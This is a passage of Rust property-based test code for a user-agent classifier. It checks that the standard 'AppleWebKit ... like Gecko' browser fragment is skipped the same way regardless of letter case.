        prop_assert_eq!(classifier().classify(synthetic.as_bytes()), agent, "{}", synthetic);
    }

    /// The pass skips this text only as browsers write it, while words count in any case.
    #[test]
    fn the_text_of_all_browsers_is_skipped_without_loss(
        before in vocabulary_text(),
        after in vocabulary_text(),
    ) {
        let skipped = format!("{before} AppleWebKit/537.36 (KHTML, like Gecko) {after}");
        let walked = skipped.replace("like Gecko", "like gecko");
        prop_assert_eq!(classifier().classify(skipped.as_bytes()), classifier().classify(walked.as_bytes()));
    }
}
